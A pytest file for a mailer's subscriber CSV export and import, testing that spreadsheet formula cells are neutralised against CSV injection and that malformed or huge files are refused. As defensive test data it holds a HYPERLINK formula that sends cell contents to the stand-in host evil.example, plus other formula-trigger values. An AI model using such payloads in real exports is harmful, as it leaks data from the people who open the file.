"""Subscriber CSV files: formula cells neutralised on export and read back on import (OWASP
CSV injection), and files that are not CSV refused in one line that names the line."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailer.addresses import clean_name, normalize_email
from mailer.errors import SubscriberError
from mailer.store import Store
from mailer.subscriptions import csvcells, read_csv
from tests.conftest import Project
from tests.test_cli import error_lines, mailer

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
TRIGGERS = "=+-@\t\r"
# Names as the public form or `subscribers add` take them: formulas, values that start
# with quotes already, and the characters CSV itself quotes.
NAMES = [FORMULA, "+1 555 0100", "-minus", "@SUM(A1:A9)", "'=already quoted", "''+two quotes",
         "'plain quote", "O'Brien", "Lovelace, Ada", 'Grace "Amazing" Hopper', "Jörg Müller", ""]


@pytest.fixture
def db_url(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path}/project/var/mailer.db"


# -- the cell rule ---------------------------------------------------------------------------


@given(st.text())
def test_an_exported_cell_never_starts_with_a_formula_trigger_and_reads_back_as_the_value(
    value: str,
) -> None:
    cell = csvcells.escape_cell(value)
    assert cell[:1] not in set(TRIGGERS)
    assert csvcells.unescape_cell(cell) == value


@given(st.text(), st.text())
def test_two_different_values_never_export_as_the_same_cell(a: str, b: str) -> None:
    if a != b:
        assert csvcells.escape_cell(a) != csvcells.escape_cell(b)


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+2", "'=1+2"), ("\tx", "'\tx"), ("'=1", "''=1"), ("''@x", "'''@x"),
    ("'quoted", "'quoted"), ("O'Brien", "O'Brien"), ("", ""), ("'", "'"),
])
def test_a_cell_gets_one_quote_more_exactly_when_quotes_and_a_trigger_start_it(
    value: str, cell: str,
) -> None:
    assert csvcells.escape_cell(value) == cell


def test_a_hand_written_formula_cell_is_imported_as_written() -> None:
    assert csvcells.unescape_cell("=1") == "=1"
    assert csvcells.unescape_cell("'plain") == "'plain"


def _export_file(rows: list[tuple[str, str]]) -> str:
    # The rows exactly as `subscribers export` writes them (cli_subscribers).
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(csvcells.EXPORT_HEADER)
    for email, name in rows:
        writer.writerow(csvcells.escape_row(
            [email, name, "confirmed", "2026-12-07T09:00:00+00:00", "2026-12-07T09:00:00+00:00"]))
    return out.getvalue()


def _read(text: str, *, confirmed: bool = True) -> list[tuple[str, str]]:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "export.csv"
        path.write_text(text, encoding="utf-8")
        return read_csv(path, confirmed=confirmed)


def _accepted_name(name: str) -> bool:
    try:
        return clean_name(name) == name
    except SubscriberError:
        return False


@given(st.text(max_size=60).filter(_accepted_name),
       st.text(alphabet="'=+-abc", min_size=1, max_size=8))
def test_importing_an_export_gives_back_every_name_and_address_clean_name_accepts(
    name: str, local_part: str,
) -> None:
    try:
        email = normalize_email(f"{local_part}@example.com")
    except SubscriberError:
        email = "reader@example.com"
    assert _read(_export_file([(email, name)])) == [(email, name)]


def test_an_export_row_of_someone_who_left_is_refused_not_brought_back() -> None:
    text = _export_file([("a@example.com", "A")]).replace(",confirmed,", ",unsubscribed,")
    with pytest.raises(SubscriberError, match=r"line 2: status 'unsubscribed'"):
        _read(text, confirmed=False)


def test_a_pending_export_row_is_not_confirmed_by_an_import_with_confirmed() -> None:
    text = _export_file([("a@example.com", "A")]).replace(",confirmed,", ",pending,")
    assert _read(text, confirmed=False) == [("a@example.com", "A")]
    with pytest.raises(SubscriberError, match=r"line 2: status 'pending'.*--status confirmed"):
        _read(text, confirmed=True)


# -- through the CLI -------------------------------------------------------------------------


def _add(project: Project, email: str, name: str) -> None:
    result = mailer(project, "subscribers", "add", "--list", "ml-issues", "--name", name,
                    "--confirmed", "--", email)
    assert result.returncode == 0, result.stderr


def test_an_exported_formula_name_starts_with_a_quote_so_a_spreadsheet_shows_it_as_text(
    project: Project,
) -> None:
    project.configure()
    _add(project, "mallory@example.com", FORMULA)
    _add(project, "-cmd@example.com", "Plain")
    exported = mailer(project, "subscribers", "export", "--list", "ml-issues")
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.reader(io.StringIO(exported.stdout)))
    assert rows[1][:2] == ["mallory@example.com", "'" + FORMULA]
    assert rows[2][:2] == ["'-cmd@example.com", "Plain"]
    assert all(cell[:1] not in set(TRIGGERS) for row in rows for cell in row)


def _store(db_url: str, rows: list[tuple[str, str]]) -> None:
    # Straight into the store: one `subscribers add` process per name would take seconds.
    async def go() -> None:
        store = await Store.open(db_url)
        try:
            await store.import_subscribers(rows, newsletter="ml-issues", confirmed=True)
        finally:
            await store.close()

    asyncio.run(go())


def test_export_import_export_gives_the_same_bytes_for_every_name(
    project: Project, tmp_path: Path,
) -> None:
    project.configure()
    _store(project.db_url, [(f"{'=+-'[i % 3]}reader{i}@example.com", clean_name(name))
                            for i, name in enumerate(NAMES)])
    first = mailer(project, "subscribers", "export", "--list", "ml-issues")
    assert first.returncode == 0, first.stderr
    exported = tmp_path / "export.csv"
    exported.write_text(first.stdout, encoding="utf-8")

    # Into a new, empty database of the same project.
    Project(root=project.root, db_url=f"sqlite:///{tmp_path}/other/mailer.db").configure()
    imported = mailer(project, "subscribers", "import", str(exported), "--list", "ml-issues",
                      "--confirmed")
    assert imported.returncode == 0, imported.stderr
    assert f"imported {len(NAMES)} subscribers" in imported.stdout
    second = mailer(project, "subscribers", "export", "--list", "ml-issues")
    assert second.returncode == 0, second.stderr

    # Every byte but the two dates, which are the new database's own.
    def without_dates(text: str) -> list[str]:
        return [line.rsplit(",", 2)[0] for line in text.splitlines()]

    assert without_dates(second.stdout) == without_dates(first.stdout)
    assert len(second.stdout.splitlines()) == len(NAMES) + 1


def _run_measured(project: Project, *args: str, tmp_path: Path) -> tuple[int, str, int]:
    """(exit code, stderr, peak RSS in KiB) of one `mailer` process."""
    env = {**os.environ, "MAILER_SECRET_KEY": "cli-test-key", "COLUMNS": "200"}
    env.pop("MAILER_CONFIG", None)
    stderr_path = tmp_path / "stderr.txt"
    with stderr_path.open("wb") as stderr:
        proc = subprocess.Popen(
            [sys.executable, "-m", "mailer", "--config", str(project.config_path), *args],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=stderr, env=env,
            cwd=project.root)
        _, status, usage = os.wait4(proc.pid, 0)  # the resources of this child alone
        proc.returncode = os.waitstatus_to_exitcode(status)
    return proc.returncode, stderr_path.read_text(encoding="utf-8"), usage.ru_maxrss


def test_a_csv_with_one_50_mb_field_exits_2_naming_its_line_in_bounded_memory(
    project: Project, tmp_path: Path,
) -> None:
    project.configure()
    small = tmp_path / "small.csv"
    small.write_text("email,name\nok@example.com,Ok\n", encoding="utf-8")
    big = tmp_path / "big.csv"
    with big.open("w", encoding="utf-8") as file:
        file.write("email,name\nok@example.com,Ok\nhuge@example.com,\"")
        for _ in range(50):
            file.write("x" * 1_000_000)
        file.write("\"\n")

    code, stderr, big_rss = _run_measured(
        project, "subscribers", "import", str(big), "--list", "ml-issues", tmp_path=tmp_path)
    assert code == 2
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert len(lines) == 1, stderr
    assert f"{big}:3:" in lines[0] and "Traceback" not in stderr
    exported = mailer(project, "subscribers", "export", "--list", "ml-issues")
    assert exported.stdout.splitlines() == [",".join(csvcells.EXPORT_HEADER)]

    code, _, small_rss = _run_measured(
        project, "subscribers", "import", str(small), "--list", "ml-issues", tmp_path=tmp_path)
    assert code == 0
    # Reading the file whole cost over 100 MB more; line by line it is the same process.
    assert big_rss - small_rss < 20 * 1024, (big_rss, small_rss)


@pytest.mark.parametrize(("content", "line"), [
    (b'email,name\nok@example.com,Ok\nnul@example.com,A\x00B\n', 3),
    (b'email,name\nok@example.com,Ok\nopen@example.com,"never closed\nx@example.com,X\n', 3),
    (b'email,name\nok@example.com,"Ok"ay\n', 2),
    (b'email,name\nok@example.com,Ok\nlatin1@example.com,J\xf6rg\n', 3),
])
def test_a_malformed_csv_exits_2_with_one_line_naming_its_line_and_imports_nothing(
    project: Project, tmp_path: Path, content: bytes, line: int,
) -> None:
    project.configure()
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    result = mailer(project, "subscribers", "import", str(path), "--list", "ml-issues")
    assert result.returncode == 2
    lines = error_lines(result)
    assert len(lines) == 1, result.stderr
    assert f"{path}:{line}:" in lines[0] or f"line {line}:" in lines[0], lines[0]
    assert "nothing imported" in lines[0]
    exported = mailer(project, "subscribers", "export", "--list", "ml-issues")
    assert exported.stdout.splitlines() == [",".join(csvcells.EXPORT_HEADER)]
